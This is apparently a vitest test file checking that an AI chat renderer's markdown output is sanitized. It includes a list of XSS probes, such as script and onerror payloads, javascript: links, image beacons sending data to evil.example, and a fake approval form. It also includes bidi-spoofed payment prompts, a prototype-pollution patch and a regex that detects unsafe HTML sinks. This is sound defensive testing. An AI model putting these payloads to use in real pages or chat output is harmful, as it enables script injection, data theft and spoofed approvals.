import { readdirSync, readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { markdown } from "../src/markdown.ts";
import { ai, drawn, namespace, record, restart, snapshot, stand, tool, user } from "./builders.ts";

const never = new AbortController().signal;

const PROBES = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
  "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
  "<iframe srcdoc='<script>parent.x=1</script>'></iframe>",
  "<form action=https://evil.example><button>Approve</button><input name=q></form>",
  "<div style='position:fixed;inset:0' class=nestling id=root>over</div>",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](vbscript:x) [file](file:///etc/passwd) [data](data:text/html,<script>1</script>)",
  "[rel](/api/contents) [rel](//evil.example/x) [rel](?x) [rel](#x)",
  "<javascript:alert(1)>",
  "![x](https://evil.example/steal?q=secret)",
  "![x](http://evil.example/steal.png)",
  "![x](/api/kernels)",
  "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
  "![x](data:text/html;base64,PHNjcmlwdD4=)",
  "![x](javascript:alert(1))",
  '![" onerror="alert(1)](data:image/png;base64,AAAA)',
  '[a](https://ok.example "title\\" onclick=\\"x")',
  "[a]: javascript:alert(1)\n\n[a]",
  '```"><script>alert(1)</script>\ncode\n```',
  "| a<script> | b |\n|---|---|\n| <b onclick=x> | javascript:x |",
  "<a href='#' data-commandlinker-command='notebook:run-all-cells'>x</a>",
  `${"> ".repeat(5000)}deep`,
  `${"- ".repeat(3000)}deep`,
  `${"[".repeat(5000)}x${"]".repeat(5000)}`,
  "*".repeat(20_000),
  "\u001b[31mred\u001b[0m \u202Egnirts\u202C \u0000null \ud800",
];

const ELEMENTS = new Set(
  "P H1 H2 H3 H4 H5 H6 UL OL LI BLOCKQUOTE HR TABLE THEAD TBODY TR TH TD EM STRONG S A IMG PRE CODE BR SPAN DIV BUTTON svg path".split(
    " ",
  ),
);
const OURS = new Set([
  "class",
  "title",
  "type",
  "aria-label",
  "data-language",
  "data-align",
  "data-icon",
  "viewBox",
]);
const DRAWING = new Set(["aria-hidden", "d", "fill", "stroke", "stroke-width", "opacity"]);

function inspect(root: ParentNode) {
  for (const el of root.querySelectorAll("*")) {
    expect(ELEMENTS).toContain(el.tagName);
    for (const { name, value } of [...el.attributes]) {
      if (name === "class") expect(value).toMatch(/^nst-[a-z- ]+$/);
      else if (name === "href") expect(value).toMatch(/^(https?|mailto):/);
      else if (name === "src") expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/);
      else if (name === "rel") expect(value).toBe("noopener noreferrer nofollow");
      else if (name === "target") expect(value).toBe("_blank");
      else if (name === "dir") expect(value).toBe("auto");
      else if (name === "alt" || name === "start") continue;
      else expect([...OURS, ...DRAWING]).toContain(name);
    }
  }
}

describe("hostile text", () => {
  for (const probe of PROBES)
    it(`becomes nothing but harmless elements: ${JSON.stringify(probe.slice(0, 60))}`, () => {
      inspect(markdown(probe, never));
    });

  it("never becomes an approve button, a field or a frame in any kind of row", async () => {
    restart();
    const text = PROBES.slice(0, 20).join("\n\n");
    const box = namespace(["a:1"], { label: text });
    const { el, end } = stand({
      collapse: "none",
      snapshot: snapshot(
        {
          live_chat: [
            user(text, { speaker: text }),
            ai(text, { reasoning: text, speaker: text }),
            tool(text, { args: { [text]: text }, content: text, error: text, status: "failed" }),
            record("error", { error_type: text, message: text, traceback: text }),
            record("interrupt", { value: text, status: "pending" }),
            record("custom", { data: text }),
            record("update", { content: text, speaker: text }),
            record("artifact", { title: text, kind: text, mime: { "text/markdown": text } }),
            ai(text, { namespace: ["a:1"] }),
          ],
        },
        [box],
      ),
    });
    await drawn();
    const forbidden = el.querySelectorAll("script, iframe, form, input, style, object, embed, link, base");
    expect([...forbidden].map((found) => found.getAttribute("aria-label"))).toEqual(["Search text"]);
    for (const img of el.querySelectorAll("img")) expect(img.src).toMatch(/^data:image\/(png|jpeg|gif|webp)/);
    for (const any of el.querySelectorAll("*"))
      for (const { name } of [...any.attributes]) expect(name).not.toMatch(/^on|commandlinker/);
    end.abort();
  });

  it("shows a remote image only by the name of its host, and loads it on a click", () => {
    const holder = document.createElement("div");
    holder.append(markdown("![chart](https://evil.example/x.png?q=1)", never));
    expect(holder.querySelector("img")).toBeNull();
    expect(holder.textContent).toContain("evil.example");
    holder.querySelector("button")?.click();
    expect(holder.querySelector("img")?.getAttribute("src")).toBe("https://evil.example/x.png?q=1");
  });

  it("leads only to where a link's title says", () => {
    const holder = document.createElement("div");
    holder.append(markdown("[https://bank.example](https://evil.example/login)", never));
    const link = holder.querySelector("a");
    expect(link?.title).toBe("evil.example");
    expect(link?.rel).toBe("noopener noreferrer nofollow");
  });

  it("draws an HTML artifact in a frame without scripts, origin or network", async () => {
    restart();
    const html = "<script>parent.hacked = 1</script><img src=https://evil.example/x>";
    const { el, end } = stand({
      snapshot: snapshot({ live_chat: [record("artifact", { title: "Page", mime: { "text/html": html } })] }),
    });
    await drawn();
    const frame = el.querySelector("iframe") as HTMLIFrameElement;
    expect(frame.getAttribute("sandbox")).toBe("");
    expect(frame.getAttribute("srcdoc")).toContain(
      "default-src 'none'; img-src data:; style-src 'unsafe-inline'",
    );
    end.abort();
  });

  it("draws an SVG artifact as a picture, never as elements", async () => {
    restart();
    const svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>1</script></svg>";
    const { el, end } = stand({
      snapshot: snapshot({
        live_chat: [record("artifact", { title: "Plot", mime: { "image/svg+xml": svg } })],
      }),
    });
    await drawn();
    expect(el.querySelector(".nst-ab svg")).toBeNull();
    expect(el.querySelector(".nst-ab img")?.getAttribute("src")).toMatch(/^data:image\/svg\+xml;/);
    end.abort();
  });

  it("cannot turn the reading direction in a name or a request for approval", async () => {
    restart();
    const asks = record("interrupt", { status: "pending", value: "Pay \u202e0001 \u202c EUR?" });
    const { el, end } = stand({
      snapshot: snapshot({ live_chat: [asks, tool("a\u202eb")] }, [
        namespace(["x:1"], { label: "y\u2066z" }),
      ]),
    });
    await drawn();
    expect(el.textContent).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(el.textContent).toContain("Pay U+202E0001 U+202C EUR?");
    expect(el.textContent).toContain("aU+202Eb");
    end.abort();
  });

  it("cannot reach prototypes through the keys of a patch", async () => {
    const { model, end } = stand();
    model.emit(
      "msg:custom",
      JSON.parse(
        '{"type":"patch","epoch":"e1","n":1,"namespaces":{"__proto__":{"polluted":1},"x:1":{"__proto__":{"polluted":1},"key":"x:1","parent":"","label":"x"}},"add":[{"__proto__":{"polluted":1},"id":"__proto__","type":"ai","namespace":[],"seq":1,"order":1,"status":"completed","content":"a","speaker":"s","started_at":0}],"set":[[1,{"__proto__":{"polluted":1},"constructor":1}]]}',
      ),
      [],
    );
    await drawn();
    expect(({} as { polluted?: number }).polluted).toBeUndefined();
    end.abort();
  });
});

it("no source hands a string to an HTML parser", () => {
  const sources = (folder: string): string[] =>
    readdirSync(folder, { withFileTypes: true }).flatMap((entry) =>
      entry.isDirectory() ? sources(`${folder}/${entry.name}`) : [`${folder}/${entry.name}`],
    );
  const word =
    /innerHTML|outerHTML|insertAdjacentHTML|document\.write|createContextualFragment|\beval\b|new Function/;
  for (const path of sources(`${import.meta.dirname}/../src`))
    expect(readFileSync(path, "utf8")).not.toMatch(word);
});
